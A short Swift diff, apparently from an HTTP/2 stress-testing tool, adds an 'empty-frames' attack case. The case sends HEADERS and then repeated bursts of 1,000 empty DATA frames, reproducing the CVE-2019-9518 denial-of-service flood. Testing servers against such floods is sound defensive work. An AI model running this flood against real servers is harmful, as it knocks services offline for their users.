@@ -16,6 +16,9 @@ enum Attack: String, CaseIterable, Sendable {
     case slowReader = "slow-reader"
     /// Connect, send the preface and SETTINGS, close.
     case connectionChurn = "connection-churn"
+    /// A GetItem call's HEADERS, then empty DATA frames on its stream, 1 000 a burst
+    /// (CVE-2019-9518).
+    case emptyFrames = "empty-frames"
 
     /// Frames (or calls) sent at once.
     static let burst = 100
@@ -65,6 +68,10 @@ enum Attack: String, CaseIterable, Sendable {
             socket.waitForHangUp(milliseconds: max(hold, 0))
         case .connectionChurn:
             return
+        case .emptyFrames:
+            guard socket.send(Frames.frame(Frames.headers, flags: Frames.endHeaders, stream: 1, Self.getItemBlock)) else { return }
+            let burst = Array(repeatElement(Frames.frame(Frames.data, stream: 1), count: 10 * Self.burst).joined())
+            repeatBursts(on: socket, until: deadline) { burst }
         }
     }
 
